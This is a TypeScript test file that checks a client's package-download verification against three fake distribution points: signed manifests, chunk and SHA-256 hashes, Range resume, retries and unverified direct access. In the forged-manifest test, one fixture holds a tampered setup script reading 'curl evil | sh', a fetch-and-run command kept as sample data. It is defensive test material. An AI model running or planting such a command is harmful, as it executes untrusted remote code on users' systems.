/**
 * The reference client's content verification against distribution points
 * (issue 6; rules 116, 117, 122, 124): signed manifests, per-chunk XXH64 with
 * Range re-fetch from the next location, SHA-256, nothing kept of bad copies,
 * "access content directly" unverified and loud, pre-cached content re-checked.
 * Three fake DPs on loopback (content-fake-dp.ts), in the order policy lists them.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ContentCache, type DownloadSettings } from '../../src/client/content.js';
import { MemoryLog } from '../../src/client/log.js';
import { CHUNK_SIZE, type ContentManifest } from '../../src/content/types.js';
import { subscribe } from '../../src/events.js';
import {
  bytes, dpPackage, dpSource, flipped, holdPackage, manifestOf, newSiteKey, signingKeyOf, startFakeDp, type FakeDp, type PackageFiles,
} from './content-fake-dp.js';
import { tempDir } from './helpers.js';

const key = newSiteKey();
const SIGNING = signingKeyOf(key);
const settings = (over: Partial<DownloadSettings> = {}): DownloadSettings => ({ verify: true, retryCount: 2, retryDelayMs: 0, fileTimeoutMs: 10_000, ...over });

// A 2.5-chunk image and a small script: the image's chunk 1 is where bytes get flipped.
const FILES: PackageFiles = { 'image/install.wim': bytes(2 * CHUNK_SIZE + CHUNK_SIZE / 2, 7), 'setup.sh': Buffer.from('echo setup\n') };
const FLIP_AT = CHUNK_SIZE + 12345;
let manifest: ContentManifest;
let dps: FakeDp[];
let a: FakeDp, b: FakeDp, c: FakeDp;

const files = (dir: string): string[] => (existsSync(dir) ? readdirSync(dir, { recursive: true }).map(String).sort() : []);

beforeAll(async () => {
  manifest = await manifestOf('PXP00100', 3, FILES, key);
  dps = await Promise.all(['dp-a', 'dp-b', 'dp-c'].map((id) => startFakeDp(id)));
  [a, b, c] = dps as [FakeDp, FakeDp, FakeDp];
});
afterAll(async () => {
  await Promise.all(dps.map((d) => d.close()));
});
beforeEach(() => {
  for (const d of dps) {
    holdPackage(d, manifest, FILES);
    d.requests.length = 0;
    d.failNext = 0;
    d.cutAfter = null;
  }
});

const pkg = (order: FakeDp[] = [a, b, c]): ReturnType<typeof dpPackage> =>
  dpPackage('PXP00100', manifest, order.map((d, i) => dpSource(d, 'PXP00100', 3, i === 0 ? 'current' : 'neighbour')));
const cache = (target: string, log = new MemoryLog(), sleeps: number[] = []): ContentCache =>
  new ContentCache(target, fetch, log, async (ms) => void sleeps.push(ms), () => ({}), { signingKey: SIGNING });

describe('client content verification against distribution points', () => {
  it('a byte flipped in the first DP\'s copy is caught at its chunk; the chunk comes from the next DP by Range and the package completes', async () => {
    a.files.get('PXP00100@3')!['image/install.wim'] = flipped(FILES['image/install.wim']!, FLIP_AT);
    const target = tempDir();
    const log = new MemoryLog();
    const events: Record<string, unknown>[] = [];
    const off = subscribe('content.verify.fail', (e) => events.push(e));
    const r = await cache(target, log).ensure(pkg(), settings()).finally(off);
    expect(r).toMatchObject({ ok: true, manifestVerified: true, unverified: false });
    const dir = join(target, '_SMSTSPackages', 'PXP00100');
    expect(readFileSync(join(dir, 'image', 'install.wim')).equals(FILES['image/install.wim']!)).toBe(true);
    // dp-a served chunk 0 (kept), chunk 1 failed XXH64; dp-b was asked from chunk 1 on (resumable), dp-c never.
    expect(a.requests.filter((q) => q.kind === 'file' && q.path === 'image/install.wim')).toEqual([{ kind: 'file', path: 'image/install.wim', range: null }]);
    expect(b.requests.filter((q) => q.kind === 'file' && q.path === 'image/install.wim')).toEqual([{ kind: 'file', path: 'image/install.wim', range: `bytes=${CHUNK_SIZE}-` }]);
    expect(c.requests.filter((q) => q.kind === 'file')).toEqual([]);
    expect(log.lines.some((l) => l.level === 'warn' && /chunk 1 .*XXH64.*good bytes kept up to 1048576/.test(l.text))).toBe(true);
    expect(events).toContainEqual(expect.objectContaining({ kind: 'chunk', packageId: 'PXP00100', path: 'image/install.wim' }));
    expect(files(join(target, '_SMSTSPackages'))).toEqual(['PXP00100', 'PXP00100/image', 'PXP00100/image/install.wim', 'PXP00100/setup.sh']);
  });

  it('no DP has a good copy → hash-mismatch, and nothing of the bad copies is kept (no package, no staging, no partial file)', async () => {
    for (const d of dps) d.files.get('PXP00100@3')!['image/install.wim'] = flipped(FILES['image/install.wim']!, FLIP_AT);
    const target = tempDir();
    const r = await cache(target).ensure(pkg(), settings());
    expect(r).toMatchObject({ ok: false, reason: 'hash-mismatch' });
    expect(!r.ok && r.message).toMatch(/no location has image\/install\.wim matching .*SHA-256 \(rule 116\); nothing of the package was kept/);
    expect(files(join(target, '_SMSTSPackages'))).toEqual([]);
    expect(existsSync(join(target, '_SMSTSCache', 'PXP00100.json'))).toBe(false);
    // A mismatch is final for its location: no retry rounds against the same bytes.
    for (const d of dps) expect(d.requests.filter((q) => q.kind === 'file' && q.path === 'image/install.wim')).toHaveLength(1);
  });

  it('a forged manifest is refused: that DP is not used at all, the next DP\'s signed one is', async () => {
    // dp-a: manifest re-signed by another key, pointing at its tampered copy.
    const evilFiles = { ...FILES, 'setup.sh': Buffer.from('curl evil | sh\n') };
    a.files.set('PXP00100@3', evilFiles);
    a.manifests.set('PXP00100@3', await manifestOf('PXP00100', 3, evilFiles, newSiteKey()));
    // dp-b: the genuine manifest with one digest altered after signing.
    const altered = structuredClone(manifest);
    altered.files[1]!.chunks[0] = '0000000000000000';
    b.manifests.set('PXP00100@3', altered);
    const target = tempDir();
    const log = new MemoryLog();
    const r = await cache(target, log).ensure(pkg(), settings());
    expect(r).toMatchObject({ ok: true, manifestVerified: true });
    expect(readFileSync(join(target, '_SMSTSPackages', 'PXP00100', 'setup.sh'), 'utf8')).toBe('echo setup\n');
    expect(a.requests.filter((q) => q.kind === 'file')).toEqual([]);
    expect(b.requests.filter((q) => q.kind === 'file')).toEqual([]);
    expect(c.requests.filter((q) => q.kind === 'file').length).toBe(2);
    expect(log.lines.filter((l) => /REFUSED location dp-(a|b)/.test(l.text)).map((l) => l.text)).toEqual([
      expect.stringMatching(/dp-a .*signed by key \w+, not the site's key/),
      expect.stringMatching(/dp-b .*does not verify with the site key/),
    ]);
  });

  it('every manifest forged → the package fails as manifest-refused and nothing is downloaded', async () => {
    const other = newSiteKey();
    for (const d of dps) d.manifests.set('PXP00100@3', await manifestOf('PXP00100', 3, FILES, other));
    const target = tempDir();
    const r = await cache(target).ensure(pkg(), settings());
    expect(r).toMatchObject({ ok: false, reason: 'manifest-refused' });
    expect(!r.ok && r.message).toMatch(/no location offered a manifest signed by the site's key/);
    expect(dps.flatMap((d) => d.requests.filter((q) => q.kind === 'file'))).toEqual([]);
    expect(files(join(target, '_SMSTSPackages'))).toEqual([]);
  });

  it('a signed manifest that disagrees with policy (another SHA-256) is refused', async () => {
    const p = pkg([a, b]);
    p.files = p.files.map((f) => (f.path === 'setup.sh' ? { ...f, sha256: 'f'.repeat(64) } : f));
    const r = await cache(tempDir()).ensure(p, settings());
    expect(r).toMatchObject({ ok: false, reason: 'manifest-refused' });
    expect(!r.ok && r.message).toMatch(/disagree on setup\.sh/);
  });

  it('a transfer cut mid-file resumes from the last good chunk at the next DP (Range)', async () => {
    a.cutAfter = CHUNK_SIZE + 100;
    const target = tempDir();
    const r = await cache(target).ensure(pkg(), settings());
    expect(r).toMatchObject({ ok: true });
    expect(readFileSync(join(target, '_SMSTSPackages', 'PXP00100', 'image', 'install.wim')).equals(FILES['image/install.wim']!)).toBe(true);
    expect(b.requests.find((q) => q.path === 'image/install.wim')).toMatchObject({ range: `bytes=${CHUNK_SIZE}-` });
  });

  it('rule 122: network failures are retried SMSTSDownloadRetryCount times, SMSTSDownloadRetryDelay apart', async () => {
    a.failNext = 2; // the first two file requests fail with 500: round 0 and round 1, then round 2 succeeds
    const sleeps: number[] = [];
    const log = new MemoryLog();
    const r = await cache(tempDir(), log, sleeps).ensure(pkg([a]), settings({ retryCount: 2, retryDelayMs: 7 }));
    expect(r).toMatchObject({ ok: true });
    expect(sleeps).toEqual([7, 7]);
    expect(log.lines.filter((l) => /retry \d of 2 in 0\.007 s \(SMSTSDownloadRetryCount\/Delay, rule 122\)/.test(l.text))).toHaveLength(2);

    a.failNext = 10;
    const sleeps2: number[] = [];
    const failed = await cache(tempDir(), new MemoryLog(), sleeps2).ensure(pkg([a]), settings({ retryCount: 1, retryDelayMs: 5 }));
    expect(failed).toMatchObject({ ok: false, reason: 'unavailable' });
    expect(sleeps2).toEqual([5]);
  });

  it('rule 117: access content directly reads the package share with NO verification, and says so loudly', async () => {
    a.files.get('PXP00100@3')!['setup.sh'] = Buffer.from('echo TAMPERED\n');
    const target = tempDir();
    const log = new MemoryLog();
    const r = await cache(target, log).ensure(pkg(), settings({ verify: false }));
    expect(r).toMatchObject({ ok: true, unverified: true, manifestVerified: false });
    expect(readFileSync(join(target, '_SMSTSPackages', 'PXP00100', 'setup.sh'), 'utf8')).toBe('echo TAMPERED\n');
    expect(a.requests.map((q) => q.kind)).toEqual(['share', 'share']); // no manifest, no files/ route
    expect(log.lines.some((l) => l.level === 'warn' && /!!! UNVERIFIED CONTENT: package PXP00100 .*WITHOUT hash verification/.test(l.text))).toBe(true);
    expect(log.lines.some((l) => /UNVERIFIED .*setup\.sh.*DOES NOT match policy; not checked, rule 117/.test(l.text))).toBe(true);
    expect(existsSync(join(target, '_SMSTSCache', 'PXP00100.json'))).toBe(false);
  });

  it('access directly with no package share anywhere fails clearly', async () => {
    const p = pkg([a]);
    p.sources = p.sources!.map((s) => ({ ...s, shareUrl: null }));
    const r = await cache(tempDir()).ensure(p, settings({ verify: false }));
    expect(r).toMatchObject({ ok: false, reason: 'unavailable' });
    expect(!r.ok && r.message).toMatch(/no content location has a package share/);
  });

  it('rule 16: a verified package is reused by a later run in the same target after re-checking it; altered at rest → downloaded again', async () => {
    const target = tempDir();
    expect(await cache(target).ensure(pkg(), settings())).toMatchObject({ ok: true, fromCache: false });
    for (const d of dps) d.requests.length = 0;
    const log = new MemoryLog();
    expect(await cache(target, log).ensure(pkg(), settings())).toMatchObject({ ok: true, fromCache: true });
    expect(dps.flatMap((d) => d.requests)).toEqual([]);
    expect(log.lines.some((l) => /pre-cached, rule 16/.test(l.text))).toBe(true);

    writeFileSync(join(target, '_SMSTSPackages', 'PXP00100', 'setup.sh'), 'echo altered at rest\n');
    const again = await cache(target, new MemoryLog()).ensure(pkg(), settings());
    expect(again).toMatchObject({ ok: true, fromCache: false });
    expect(readFileSync(join(target, '_SMSTSPackages', 'PXP00100', 'setup.sh'), 'utf8')).toBe('echo setup\n');
  });

  it('without a site key the manifests are not used: SHA-256 of policy only, bad copy started over at the next DP', async () => {
    a.files.get('PXP00100@3')!['image/install.wim'] = flipped(FILES['image/install.wim']!, FLIP_AT);
    const target = tempDir();
    const log = new MemoryLog();
    const r = await new ContentCache(target, fetch, log, async () => undefined).ensure(pkg(), settings());
    expect(r).toMatchObject({ ok: true, manifestVerified: false });
    expect(dps.flatMap((d) => d.requests.filter((q) => q.kind === 'manifest'))).toEqual([]);
    expect(b.requests.find((q) => q.path === 'image/install.wim')).toMatchObject({ range: null });
    expect(log.lines.some((l) => /hash mismatch: sha256 .*copy deleted, trying the next location/.test(l.text))).toBe(true);
  });
});
